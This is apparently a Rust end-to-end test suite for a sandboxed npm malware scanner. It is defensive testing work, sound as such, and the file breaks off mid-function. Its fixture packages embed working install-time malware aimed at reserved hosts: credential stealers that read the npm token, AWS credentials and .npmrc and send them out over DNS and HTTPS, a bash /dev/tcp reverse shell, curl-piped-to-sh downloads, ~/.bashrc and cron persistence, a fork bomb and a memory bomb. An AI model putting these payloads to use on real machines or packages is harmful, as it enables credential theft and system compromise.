//! `dsca scan --dynamic` end to end: synthetic packages that act like malware (against
//! reserved names and TEST-NET addresses only) and honest ones are installed and imported
//! in the sandbox, from the local test registry through the sandbox's registry proxy.
//! Run with DSCA_SANDBOX_TESTS=1 as root; the real-registry case also needs
//! DSCA_NETWORK_TESTS=1.

use assert_cmd::Command;
use dsca_test::{
    PackageBuilder, TempHome, TestFileHost, TestRegistry, network_tests_enabled, phase_records,
    sandbox_tests_enabled,
};
use serde_json::Value;

fn dsca(home: &TempHome) -> Command {
    let mut cmd = Command::cargo_bin("dsca").expect("the dsca binary is built");
    cmd.envs(home.envs())
        .env_remove("NPM_CONFIG_REGISTRY")
        .env_remove("npm_config_registry")
        // A results store in the environment would add prevalence to every finding.
        .env_remove("DSCA_DB")
        .current_dir(home.project_dir());
    cmd
}

fn scan_json(cmd: &mut Command) -> (i32, Value, String) {
    let output = cmd.output().expect("run dsca");
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let json = serde_json::from_str(&stdout)
        .unwrap_or_else(|err| panic!("not JSON ({err}):\n{stdout}\nstderr: {stderr}"));
    (output.status.code().unwrap_or(-1), json, stderr)
}

/// `dsca scan --dynamic` of `spec` from the test `registry` in a fresh home, with
/// `options` before the spec; the JSON report, after checking the scan completed.
fn scan_dynamic(registry: &TestRegistry, options: &[&str], spec: &str) -> Value {
    let home = TempHome::new();
    let (code, report, stderr) = scan_json(
        dsca(&home)
            .args([
                "scan",
                "--dynamic",
                "--format",
                "json",
                "--registry",
                registry.url(),
            ])
            .args(options)
            .arg(spec),
    );
    assert_eq!(code, 0, "{spec}: {stderr}\n{report:#}");
    report
}

fn rule_ids(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["rule"].as_str().map(str::to_string))
        .collect()
}

fn texts(values: &[Value], field: &str) -> Vec<String> {
    values
        .iter()
        .filter_map(|v| v[field].as_str().map(str::to_string))
        .collect()
}

/// The texts of `field` in the array `list` (none when `list` is not an array).
fn list_texts(list: &Value, field: &str) -> Vec<String> {
    texts(list.as_array().map_or(&[][..], Vec::as_slice), field)
}

/// The phase of a dynamic record named `name`, if it ran.
fn phase_named<'a>(run: &'a Value, name: &str) -> Option<&'a Value> {
    run["phases"]
        .as_array()
        .and_then(|phases| phases.iter().find(|p| p["name"] == name))
}

/// Publish packages of one `index.js` each, version 1.0.0, to `registry`.
fn publish_modules(registry: &TestRegistry, modules: &[(&str, &str)]) {
    for (name, source) in modules {
        registry.publish(
            PackageBuilder::new(name, "1.0.0")
                .file("index.js", *source)
                .build(),
        );
    }
}

/// What a credential stealer with a dropper does at install time, aimed at reserved names.
const STEALER_SCRIPT: &str = r#"
const dns = require('dns');
const https = require('https');
const net = require('net');
const fs = require('fs');
const os = require('os');
const cp = require('child_process');
const token = process.env.NPM_TOKEN || '';
let aws = '';
try { aws = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); } catch (e) {}
const hex = Buffer.from(token).toString('hex');
dns.lookup(hex.slice(0, 40) + '.' + hex.slice(40) + '.t.exfil.example', () => {});
const req = https.request({ hostname: 'collect.example', path: '/upload?k=1', method: 'POST',
  headers: { 'content-type': 'application/json' } }, (res) => res.resume());
req.on('error', () => {});
req.end(JSON.stringify({ token, aws, host: os.hostname() }));
const sock = net.connect(4444, '198.51.100.23', () => sock.end('hello from ' + os.userInfo().username));
sock.on('error', () => {});
fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl -s http://payload.example/x.sh | sh\n');
cp.spawn('sh', ['-c', 'sleep 60'], { detached: true, stdio: 'ignore' }).unref();
cp.exec('curl -s -o /tmp/stage2.sh http://payload.example/stage2.sh; echo done');
setTimeout(() => {}, 2500);
"#;

#[test]
fn a_stealer_is_caught_in_the_act() {
    if !sandbox_tests_enabled("a_stealer_is_caught_in_the_act") {
        return;
    }
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("tiny-dep", "1.0.0")
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    registry.publish(
        PackageBuilder::new("helpful-utils", "1.0.0")
            .dependency("tiny-dep", "^1.0.0")
            .script("postinstall", "node install.js")
            .file("install.js", STEALER_SCRIPT)
            // At import time too: a bait read and a lookup, seen by the import's tracer
            // (its node starts while the install runs and waits for its turn).
            .file(
                "index.js",
                "try { require('fs').readFileSync(require('os').homedir() + '/.npmrc'); } catch (e) {}\n\
                 require('dns').lookup('imported.example', () => {});\n\
                 module.exports = require('tiny-dep');\n",
            )
            .build(),
    );
    let home = TempHome::new();
    let capture = home.path().join("run.pcapng");
    let (code, report, stderr) = scan_json(dsca(&home).args([
        "scan",
        "--dynamic",
        "--install-timeout",
        "90",
        "--pcap",
        capture.to_str().expect("UTF-8 path"),
        "--format",
        "json",
        "--registry",
        registry.url(),
        "helpful-utils@1.0.0",
    ]));
    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
    let run = &report["dynamic"];
    assert!(run.is_object(), "no dynamic section: {report:#}");
    let install = &run["phases"][0];
    assert_eq!(install["name"], "install", "{run:#}");
    assert_eq!(install["status"], "completed", "{install:#}");
    assert_eq!(install["exit_code"], 0, "{install:#}");

    // The dependency came through the registry proxy and was installed.
    let http = &phase_records(run, "/http");
    let urls = texts(http, "url");
    assert!(
        urls.iter().any(|u| u.contains("tiny-dep")),
        "the dependency was not fetched through the proxy: {urls:#?}"
    );
    assert!(
        urls.iter()
            .any(|u| u == "https://collect.example/upload?k=1"),
        "the HTTPS request was not decrypted: {urls:#?}"
    );
    assert!(
        urls.iter().any(|u| u == "http://payload.example/stage2.sh"),
        "curl's download was not seen: {urls:#?}"
    );
    let names = texts(&phase_records(run, "/dns"), "name");
    assert!(
        names.iter().any(|n| n.ends_with(".t.exfil.example")),
        "the DNS exfiltration was not seen: {names:#?}"
    );
    assert!(names.iter().any(|n| n == "collect.example"), "{names:#?}");
    let connections = phase_records(run, "/connections");
    assert!(
        connections
            .iter()
            .any(|c| c["destination"] == "198.51.100.23" && c["port"] == 4444),
        "the IP-literal connection was not seen: {connections:#?}"
    );
    let processes = phase_records(run, "/commands");
    let ran = |program: &str| {
        processes.iter().any(|p| {
            p["execs"].as_array().into_iter().flatten().any(|e| {
                e["path"]
                    .as_str()
                    .is_some_and(|path| path.ends_with(&format!("/{program}")))
            })
        })
    };
    assert!(ran("curl"), "curl not in the process tree");
    assert!(ran("node"), "node not in the process tree");
    let import = &run["phases"][1];
    assert_eq!(import["name"], "import", "{run:#}");
    assert!(
        list_texts(&import["honeytokens"]["reads"], "path").contains(&"~/.npmrc".to_string()),
        "the import's bait read was not seen: {import:#}"
    );
    assert!(
        list_texts(&import["dns"], "name").contains(&"imported.example".to_string()),
        "the import's lookup was not seen: {import:#}"
    );
    // npm runs untraced and hands the postinstall to PID 1 through the script shell:
    // the script's shell hangs under npm in the tree, and npm's own file work is absent.
    let argv = |p: &Value| -> Vec<String> {
        p["execs"][0]["argv"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|a| a.as_str().map(str::to_string))
            .collect()
    };
    let npm = processes
        .iter()
        .find(|p| argv(p).first().is_some_and(|a| a == "npm"))
        .unwrap_or_else(|| panic!("no npm process: {processes:#?}"));
    assert!(
        argv(npm)
            .iter()
            .any(|a| a == "--script-shell=/run/dsca-shell"),
        "npm was not given the script shell: {npm:#?}"
    );
    // The script runs confined (the script shell's __confine), then as /bin/sh, under npm.
    let programs = |p: &Value| -> Vec<Vec<String>> {
        p["execs"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|exec| {
                exec["argv"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .filter_map(|a| a.as_str().map(str::to_string))
                    .collect()
            })
            .collect()
    };
    assert!(
        processes.iter().any(|p| p["ppid"] == npm["pid"]
            && programs(p)
                .first()
                .is_some_and(|first| first[..2] == ["/run/dsca-shell", "__confine"])
            && programs(p)
                .iter()
                .any(|a| a == &["/bin/sh", "-c", "node install.js"])),
        "the postinstall's shell is not under npm: {processes:#?}"
    );
    assert!(
        processes.iter().any(|p| p["outlived"] == true),
        "the detached sleep was not reported as outliving the install"
    );
    let reads = texts(&phase_records(run, "/honeytokens/reads"), "path");
    assert!(
        reads.iter().any(|p| p == "~/.aws/credentials"),
        "bait read not seen: {reads:#?}"
    );
    let exfiltrations = phase_records(run, "/honeytokens/exfiltrations");
    let channels: Vec<&str> = exfiltrations
        .iter()
        .filter_map(|e| e["channel"].as_str())
        .collect();
    assert!(channels.contains(&"dns"), "{exfiltrations:#?}");
    assert!(channels.contains(&"https"), "{exfiltrations:#?}");
    let files = phase_records(run, "/files");
    assert!(
        files.iter().any(
            |f| f["path"].as_str().is_some_and(|p| p.ends_with("/.bashrc")) && f["op"] != "read"
        ),
        "the write to ~/.bashrc was not seen: {files:#?}"
    );

    let rules = rule_ids(&report);
    for rule in ["DSCA1001", "DSCA1002", "DSCA1003", "DSCA1009"] {
        assert!(rules.iter().any(|r| r == rule), "{rule} missing: {rules:?}");
    }
    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");

    // The capture reads back through `dsca pcap` with the same names and the original
    // destination of the redirected connection.
    let (_, captured, stderr) =
        scan_json(dsca(&home).args(["pcap", "--format", "json", capture.to_str().unwrap()]));
    let network = &captured["network"];
    let captured_names = list_texts(&network["names"], "name");
    for name in &names {
        assert!(
            captured_names.contains(name),
            "{name} missing from the capture: {captured_names:?}\n{stderr}"
        );
    }
    let captured_connections = network["connections"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        captured_connections
            .iter()
            .any(|c| c["destination"] == "198.51.100.23" && c["port"] == 4444),
        "{captured_connections:#?}"
    );
    let sni = list_texts(&network["tls_server_names"], "host");
    assert!(sni.iter().any(|h| h == "collect.example"), "{sni:?}");
}

#[test]
fn an_honest_package_stays_clean_and_the_host_stays_hidden() {
    if !sandbox_tests_enabled("an_honest_package_stays_clean_and_the_host_stays_hidden") {
        return;
    }
    // Something on the host the package must not see or change.
    let host_secret = tempfile::Builder::new()
        .prefix("dsca-host-secret")
        .tempfile_in("/tmp")
        .expect("temp file");
    std::fs::write(host_secret.path(), "host secret").expect("write");
    let escape_marker = format!("/tmp/dsca-escape-{}", std::process::id());
    let probe = format!(
        "const fs = require('fs');\n\
         const seen = {{}};\n\
         for (const p of ['{secret}', '/root', '/work']) {{ seen[p] = fs.existsSync(p); }}\n\
         const fds = fs.readdirSync('/proc/self/fd').map((fd) => {{\n\
           try {{ return fs.readlinkSync('/proc/self/fd/' + fd); }} catch (e) {{ return ''; }}\n\
         }});\n\
         seen.sockets = fds.filter((link) => link.startsWith('socket:')).length;\n\
         const npm = fs.readdirSync('/proc').filter((d) => /^[0-9]+$/.test(d)).find((d) => {{\n\
           try {{\n\
             // npm sets its process title: `npm install ...` (or node's argv, NUL-separated).\n\
             const line = fs.readFileSync('/proc/' + d + '/cmdline', 'utf8').split('\\0').join(' ');\n\
             return /(^|\\/)npm install /.test(line);\n\
           }} catch (e) {{ return false; }}\n\
         }});\n\
         const attach = require('child_process').spawnSync('timeout',\n\
           ['2', 'strace', '-o', '/dev/null', '-p', String(npm)], {{ encoding: 'utf8' }});\n\
         seen.ptrace = npm === undefined ? 'no npm' :\n\
           (/Process [0-9]+ attached/.test(attach.stderr) ? 'allowed' : 'refused');\n\
         try {{ fs.writeFileSync('{marker}', 'x'); }} catch (e) {{}}\n\
         fs.writeFileSync('built.json', JSON.stringify(seen));\n\
         console.log('probe ' + JSON.stringify(seen));\n",
        secret = host_secret.path().display(),
        marker = escape_marker,
    );
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("honest-build", "2.0.0")
            .script("install", "node build.js")
            .file("build.js", probe)
            .file("index.js", "module.exports = () => 42;\n")
            .build(),
    );
    let home = TempHome::new();
    let (code, report, stderr) = scan_json(dsca(&home).args([
        "scan",
        "--dynamic",
        "--format",
        "json",
        "--registry",
        registry.url(),
        "honest-build@2.0.0",
    ]));
    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
    let run = &report["dynamic"];
    let phases = run["phases"].as_array().cloned().unwrap_or_default();
    let names: Vec<&str> = phases.iter().filter_map(|p| p["name"].as_str()).collect();
    assert_eq!(
        names,
        ["install", "import", "import-later", "execute"],
        "{run:#}"
    );
    for phase in &phases {
        assert_eq!(phase["status"], "completed", "{phase:#}");
        assert_eq!(phase["exit_code"], 0, "{phase:#}");
    }
    let stdout = phases[0]["stdout_tail"].as_str().unwrap_or_default();
    assert!(
        stdout.contains(&format!("\"{}\":false", host_secret.path().display())),
        "the host's /tmp was visible: {stdout}"
    );
    assert!(stdout.contains("\"/root\":false"), "{stdout}");
    // No socket of dsca's (PID 1's control socket above all) reaches the package.
    assert!(stdout.contains("\"sockets\":0"), "{stdout}");
    // Nor may a script use ptrace (npm and the script shells run untraced as its user).
    assert!(stdout.contains("\"ptrace\":\"refused\""), "{stdout}");
    assert!(stdout.contains("\"/work\":false"), "{stdout}");
    assert!(
        !std::path::Path::new(&escape_marker).exists(),
        "the package wrote to the host's /tmp"
    );
    let names = texts(&phase_records(run, "/dns"), "name");
    assert!(
        phase_records(run, "/dns")
            .iter()
            .all(|q| q["registry"] == true),
        "lookups outside the registry: {names:?}"
    );
    assert!(phase_records(run, "/honeytokens/exfiltrations").is_empty());
    let rules = rule_ids(&report);
    assert!(
        !rules
            .iter()
            .any(|r| r.len() == 8 && r.starts_with("DSCA10")),
        "dynamic findings on an honest package: {rules:?}\n{report:#}"
    );
    assert_eq!(report["verdict"]["level"], "clean", "{rules:?}");
}

#[test]
fn a_real_package_from_the_npm_registry_installs_in_the_sandbox() {
    if !sandbox_tests_enabled("a_real_package_from_the_npm_registry_installs_in_the_sandbox")
        || !network_tests_enabled("a_real_package_from_the_npm_registry_installs_in_the_sandbox")
    {
        return;
    }
    let home = TempHome::new();
    let (code, report, stderr) =
        scan_json(dsca(&home).args(["scan", "--dynamic", "--format", "json", "is-number@7.0.0"]));
    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
    let run = &report["dynamic"];
    assert_eq!(run["phases"][0]["status"], "completed", "{run:#}");
    assert_eq!(run["phases"][0]["exit_code"], 0, "{run:#}");
    assert_eq!(report["verdict"]["level"], "clean");
}

/// Hostile shapes the sandbox must record, contain and clean up: a reverse shell to an IP
/// literal, curl piped to sh, a DNS question sent straight to a resolver address of the
/// package's own choosing, writes to /etc and ~/.bashrc, a fork bomb, a process that
/// acts after the install exits, and an endless loop that only the time limit ends.
const HOSTILE_SCRIPT: &str = r#"
const cp = require('child_process');
const dgram = require('dgram');
const fs = require('fs');
const os = require('os');
// DNS questions sent straight to resolvers of its own choosing: 198.51.100.53:53, and
// [2001:db8::53]:53 (an answer from there leaves a mark in the home directory).
const question = (label) => Buffer.concat([
  Buffer.from([0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]),
  Buffer.from([label.length]), Buffer.from(label), Buffer.from([7]), Buffer.from('example'), Buffer.from([0]),
  Buffer.from([0x00, 0x01, 0x00, 0x01]),
]);
const udp = dgram.createSocket('udp4');
udp.send(question('beacon'), 53, '198.51.100.53', () => udp.close());
const udp6 = dgram.createSocket('udp6');
udp6.on('error', () => {});
udp6.on('message', () => { fs.writeFileSync(os.homedir() + '/answered6', 'x'); udp6.close(); });
udp6.send(question('beacon6'), 53, '2001:db8::53');
try { fs.writeFileSync('/etc/cron.d/dsca-fixture', '* * * * * root true\n'); } catch (e) {}
fs.appendFileSync(os.homedir() + '/.bashrc', '\nexport FIXTURE=1\n');
cp.spawn('bash', ['-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'], { stdio: 'ignore', detached: true }).unref();
cp.spawn('sh', ['-c', 'curl -s http://stage.example/run.sh | sh'], { stdio: 'ignore', detached: true }).unref();
cp.spawn('sh', ['-c', 'sleep 1; echo late > /tmp/late-marker; sleep 100'], { stdio: 'ignore', detached: true }).unref();
cp.spawn('sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore', detached: true }).unref();
// Connections to PID 1's script service that never say a word: the phase keeps its clock.
const net = require('net');
const idle = [];
for (let i = 0; i < 32; i++) {
  const socket = net.connect({ path: '\0dsca-script-shell' });
  socket.on('error', () => {});
  idle.push(socket);
}
setTimeout(() => { for (;;) {} }, 1500);
"#;

#[test]
fn hostile_shapes_are_recorded_contained_and_cleaned_up() {
    if !sandbox_tests_enabled("hostile_shapes_are_recorded_contained_and_cleaned_up") {
        return;
    }
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("busy-helper", "1.0.0")
            .script("postinstall", "node setup.js")
            .file("setup.js", HOSTILE_SCRIPT)
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let home = TempHome::new();
    let started = std::time::Instant::now();
    let (code, report, stderr) = scan_json(dsca(&home).args([
        "scan",
        "--dynamic",
        "--install-timeout",
        "12",
        "--import-timeout",
        "5",
        "--format",
        "json",
        "--registry",
        registry.url(),
        "busy-helper@1.0.0",
    ]));
    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
    // The endless loop ended at the time limit, not later.
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    let run = &report["dynamic"];
    assert_eq!(run["phases"][0]["status"], "timeout", "{:#}", run["phases"]);
    // Silent clients of the script service cost PID 1 little: the 12 s limit held.
    let install_ms = run["phases"][0]["duration_ms"].as_u64().unwrap_or(u64::MAX);
    assert!(install_ms < 16_000, "the install ran {install_ms} ms");

    let dns = phase_records(run, "/dns");
    assert!(
        dns.iter()
            .any(|q| q["name"] == "beacon.example" && q["resolver"] == "198.51.100.53:53"),
        "the direct DNS question was not answered and recorded: {dns:#?}"
    );
    assert!(
        dns.iter()
            .any(|q| q["name"] == "beacon6.example" && q["resolver"] == "[2001:db8::53]:53"),
        "the question to an IPv6 resolver was not recorded: {dns:#?}"
    );
    let files = texts(&phase_records(run, "/files"), "path");
    assert!(
        files.iter().any(|path| path.ends_with("/answered6")),
        "the IPv6 resolver's answer did not arrive: {files:#?}"
    );
    let connections = phase_records(run, "/connections");
    assert!(
        connections
            .iter()
            .any(|c| c["destination"] == "198.51.100.9" && c["port"] == 4444),
        "the reverse shell's connection was not seen: {connections:#?}"
    );
    let urls = texts(&phase_records(run, "/http"), "url");
    assert!(
        urls.iter().any(|u| u == "http://stage.example/run.sh"),
        "{urls:?}"
    );
    let files = phase_records(run, "/files");
    assert!(
        files
            .iter()
            .any(|f| f["path"].as_str().is_some_and(|p| p.ends_with("/.bashrc"))),
        "{files:#?}"
    );
    // The read-only system refused the write to /etc: recorded as an attempt.
    assert!(
        files.iter().any(|f| f["path"] == "/etc/cron.d/dsca-fixture"
            && f["error"].as_str().is_some_and(|e| !e.is_empty())),
        "the refused write to /etc was not recorded: {files:#?}"
    );
    assert!(
        !std::path::Path::new("/etc/cron.d/dsca-fixture").exists(),
        "the package wrote to the host's /etc"
    );
    let processes = phase_records(run, "/commands");
    assert!(
        processes.len() > 20,
        "the fork bomb left few processes: {}",
        processes.len()
    );
    let rules = rule_ids(&report);
    for rule in ["DSCA1001", "DSCA1002", "DSCA1005", "DSCA1006", "DSCA1010"] {
        assert!(rules.iter().any(|r| r == rule), "{rule} missing: {rules:?}");
    }
    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");
    // Every process the run started ended: by itself or killed when the phase ended.
    let unended: Vec<&Value> = processes.iter().filter(|p| p["end"].is_null()).collect();
    assert!(
        unended.len() <= 1,
        "processes never seen to end: {unended:#?}"
    );
}

/// Ground truth from the real registry: pure-JavaScript packages look up nothing outside
/// the registry; packages that download binaries at install time show the host their own
/// install code names (node-pre-gyp's `binary.host`, a CDN default), with the URL; the
/// fallback build with node-gyp finds Node's headers in the sandbox and asks nodejs.org
/// for nothing.
#[test]
fn real_packages_show_the_hosts_they_download_from() {
    let name = "real_packages_show_the_hosts_they_download_from";
    if !sandbox_tests_enabled(name) || !network_tests_enabled(name) {
        return;
    }
    // (spec, domains outside the registry, the start of a URL it must have asked for),
    // each read from the package's own install code: the default download host it
    // builds its URL from.
    let cases: [(&str, &[&str], Option<&str>); 10] = [
        ("lodash@4.17.21", &[], None),
        ("chalk@5.3.0", &[], None),
        // binary.host https://github.com, remote_path kelektiv/node.bcrypt.js/releases/download
        ("bcrypt@5.0.0", &["github.com"], None),
        // binary.host https://mapbox-node-binary.s3.amazonaws.com
        (
            "sqlite3@5.0.2",
            &["mapbox-node-binary.s3.amazonaws.com"],
            None,
        ),
        // lib/extensions.js: SASS_BINARY_SITE defaults to github.com/sass/node-sass/releases.
        (
            "node-sass@4.14.1",
            &["github.com"],
            Some("https://github.com/sass/node-sass/releases/download/v4.14.1/linux-x64-"),
        ),
        // install.js: chromedriver_cdnurl defaults to googlechromelabs.github.io, asked
        // for the chrome-for-testing JSON of its version first.
        (
            "chromedriver@157.0.0",
            &["googlechromelabs.github.io"],
            Some("https://googlechromelabs.github.io/chrome-for-testing/"),
        ),
        // @puppeteer/browsers: Chrome for Testing builds from storage.googleapis.com.
        (
            "puppeteer@25.16.0",
            &["storage.googleapis.com"],
            Some("https://storage.googleapis.com/chrome-for-testing-public/"),
        ),
        // dist/index.js --exec install: download.cypress.io/desktop/VERSION.
        (
            "cypress@15.3.0",
            &["download.cypress.io"],
            Some("https://download.cypress.io/desktop/15.3.0"),
        ),
        // install.js with @electron/get: the GitHub release of its version.
        (
            "electron@38.0.0",
            &["github.com"],
            Some("https://github.com/electron/electron/releases/download/v38.0.0/"),
        ),
        // lib/util.js: DEFAULT_CDN is github.com/Medium/phantomjs/releases/download/v2.1.1.
        (
            "phantomjs-prebuilt@2.1.16",
            &["github.com"],
            Some("https://github.com/Medium/phantomjs/releases/download/v2.1.1/"),
        ),
    ];
    for (spec, expected, url_start) in cases {
        let home = TempHome::new();
        let (code, report, stderr) =
            scan_json(dsca(&home).args(["scan", "--dynamic", "--format", "json", spec]));
        assert_eq!(code, 0, "{spec}: {stderr}");
        let run = &report["dynamic"];
        let domains: Vec<String> = run["domains_outside_registry"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|d| d.as_str().map(str::to_string))
            .collect();
        let expected: Vec<String> = expected.iter().map(|d| d.to_string()).collect();
        assert_eq!(domains, expected, "{spec}");
        if let Some(url_start) = url_start {
            let urls = texts(&phase_records(run, "/http"), "url");
            assert!(
                urls.iter().any(|url| url.starts_with(url_start)),
                "{spec}: no request to {url_start}...: {urls:#?}"
            );
        }
        assert_ne!(report["verdict"]["level"], "malicious", "{spec}");
    }
}

/// A postinstall that starts `child.js` detached and returns at once, as installers of
/// background helpers do.
const DETACHING_INSTALL: &str = r#"const { spawn } = require('child_process');
spawn(process.execPath, [require('path').join(__dirname, 'child.js')], { detached: true, stdio: 'ignore' }).unref();
"#;

/// The detached child of a stealer: waits for npm to finish, then sends the npm token.
const DELAYED_STEALER_CHILD: &str = r#"setTimeout(() => {
  let npmrc = '';
  try { npmrc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); } catch (e) {}
  const req = require('https').request({ hostname: 'sync.example', path: '/u', method: 'POST' }, (res) => res.resume());
  req.on('error', () => {});
  req.end(npmrc);
}, 4000);
"#;

/// The detached child of an honest helper: asks the registry for its latest version and
/// ends.
const REGISTRY_CHECK_CHILD: &str = r#"require('https').get('https://registry.npmjs.org/bg-helper', (res) => res.resume()).on('error', () => {});
"#;

#[test]
fn a_detached_child_that_waits_before_it_steals_is_watched_until_it_does() {
    if !sandbox_tests_enabled(
        "a_detached_child_that_waits_before_it_steals_is_watched_until_it_does",
    ) {
        return;
    }
    let registry = TestRegistry::start();
    for (name, child) in [
        ("bg-sync", DELAYED_STEALER_CHILD),
        ("bg-helper", REGISTRY_CHECK_CHILD),
    ] {
        registry.publish(
            PackageBuilder::new(name, "1.0.0")
                .script("postinstall", "node install.js")
                .file("install.js", DETACHING_INSTALL)
                .file("child.js", child)
                .file("index.js", "module.exports = 1;\n")
                .build(),
        );
    }
    let report = scan_dynamic(&registry, &[], "bg-sync@1.0.0");
    let rules = rule_ids(&report);
    for rule in ["DSCA1009", "DSCA1007"] {
        assert!(rules.iter().any(|r| r == rule), "{rule} missing: {rules:?}");
    }
    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");
    let run = &report["dynamic"];
    let urls = texts(&phase_records(run, "/http"), "url");
    assert!(
        urls.iter().any(|u| u == "https://sync.example/u"),
        "{urls:?}"
    );
    // Sent while the install phase was still watching its leftovers.
    let install = phase_named(run, "install").unwrap_or_else(|| panic!("{run:#}"));
    assert!(
        list_texts(&install["http"], "url").contains(&"https://sync.example/u".to_string()),
        "{install:#}"
    );

    // The near miss: a detached child that ends on its own within the grace period is
    // no leftover, and asking the registry is no finding.
    let report = scan_dynamic(&registry, &[], "bg-helper@1.0.0");
    let rules = rule_ids(&report);
    assert!(
        !rules
            .iter()
            .any(|r| r.starts_with("DSCA10") && r.len() == 8),
        "{rules:?}\n{:#}",
        report["dynamic"]
    );
    assert_eq!(report["verdict"]["level"], "clean", "{rules:?}");
}

#[test]
fn a_process_left_just_before_the_limit_keeps_the_phase_completed() {
    if !sandbox_tests_enabled("a_process_left_just_before_the_limit_keeps_the_phase_completed") {
        return;
    }
    // The postinstall ends a few seconds before the install's limit and leaves a process
    // that never ends: its linger period runs past the limit, the phase still counts as
    // completed and the process as having outlived it.
    let install = "setTimeout(() => {\n\
          require('child_process').spawn('sleep', ['600'], { detached: true, stdio: 'ignore' }).unref();\n\
        }, 5000);\n";
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("late-leaver", "1.0.0")
            .script("postinstall", "node install.js")
            .file("install.js", install)
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let report = scan_dynamic(
        &registry,
        &["--install-timeout", "8", "--linger", "5"],
        "late-leaver@1.0.0",
    );
    let run = &report["dynamic"];
    let install = phase_named(run, "install").unwrap_or_else(|| panic!("{run:#}"));
    assert_eq!(install["status"], "completed", "{install:#}");
    let rules = rule_ids(&report);
    assert!(rules.iter().any(|r| r == "DSCA1007"), "{rules:?}");
}

/// A memory bomb made of many processes, each under the per-process limit: six
/// children of 100 MiB each, touched, held for six seconds (long enough to be alive
/// all at once on a loaded machine).
const MEMORY_BOMB_SCRIPT: &str = r#"const { spawn } = require('child_process');
const child = "const b = Buffer.alloc(100 * 1024 * 1024, 1); setTimeout(() => console.log('held ' + b[7]), 6000);";
let left = 6;
for (let i = 0; i < 6; i++) {
  spawn(process.execPath, ['-e', child], { stdio: 'inherit' }).on('exit', (code, signal) => {
    console.log('child ended: ' + (signal || code));
    if (--left === 0) process.exit(0);
  });
}
"#;

#[test]
fn a_memory_bomb_of_many_processes_is_held_to_the_runs_limit() {
    let name = "a_memory_bomb_of_many_processes_is_held_to_the_runs_limit";
    if !sandbox_tests_enabled(name) {
        return;
    }
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("cache-warmer", "1.0.0")
            .script("postinstall", "node warm.js")
            .file("warm.js", MEMORY_BOMB_SCRIPT)
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let home = TempHome::new();
    let (code, report, stderr) = scan_json(dsca(&home).args([
        "scan",
        "--dynamic",
        "--memory-limit",
        "256",
        "--install-timeout",
        "30",
        "--format",
        "json",
        "--registry",
        registry.url(),
        "cache-warmer@1.0.0",
    ]));
    assert!(code <= 2, "stderr: {stderr}\n{report:#}");
    let run = &report["dynamic"];
    let install = &run["phases"][0];
    assert_eq!(install["status"], "completed", "{install:#}");
    let memory = &run["sandbox"]["memory"];
    assert_eq!(
        memory["limit_bytes"],
        256 * 1024 * 1024,
        "{:#}",
        run["sandbox"]
    );
    // 600 MiB asked for under a 256 MiB limit: the kernel ended some of the children.
    assert!(
        memory["oom_kills"].as_u64().is_some_and(|kills| kills >= 1),
        "{memory:#}\n{install:#}"
    );
    if let Some(peak) = memory["peak_bytes"].as_u64() {
        assert!(peak <= 256 * 1024 * 1024, "{memory:#}");
    }
    let out = install["stdout_tail"].as_str().unwrap_or_default();
    assert!(out.contains("child ended: SIGKILL"), "{out}");
}

/// The same sandbox without root: through newuidmap/newgidmap and the user's
/// subordinate ids. Runs when DSCA_UNPRIVILEGED_USER names an account that has them
/// (`.ci/run` creates one); the test, as root, runs dsca as that user.
#[test]
fn an_unprivileged_user_gets_the_same_sandbox() {
    let name = "an_unprivileged_user_gets_the_same_sandbox";
    if !sandbox_tests_enabled(name) {
        return;
    }
    let Some(user) = unprivileged_user(name) else {
        return;
    };
    let tarball = PackageBuilder::new("helpful-utils", "1.0.0")
        .script("postinstall", "node install.js")
        .file("install.js", STEALER_SCRIPT)
        .file("index.js", "module.exports = 1;\n")
        .build();
    let report = scan_unprivileged(&user, "helpful-utils-1.0.0.tgz", &tarball);
    let run = &report["dynamic"];
    assert_eq!(run["phases"][0]["status"], "completed", "{run:#}");
    let channels: Vec<String> = texts(&phase_records(run, "/honeytokens/exfiltrations"), "channel");
    assert!(channels.iter().any(|c| c == "dns"), "{channels:?}");
    assert!(channels.iter().any(|c| c == "https"), "{channels:?}");
    assert_eq!(report["verdict"]["level"], "malicious");
    // Without root there is no cgroup for the run (unless one was given to the user):
    // the report says the processes were limited one by one.
    let sandbox = &run["sandbox"];
    assert!(
        sandbox["memory"].is_object()
            || sandbox["memory_limit_missing"]
                .as_str()
                .is_some_and(|why| !why.is_empty()),
        "{sandbox:#}"
    );
}

/// The account named by DSCA_UNPRIVILEGED_USER, or None (and a line saying `test` was
/// skipped).
fn unprivileged_user(test: &str) -> Option<String> {
    let user = std::env::var("DSCA_UNPRIVILEGED_USER").ok();
    if user.is_none() {
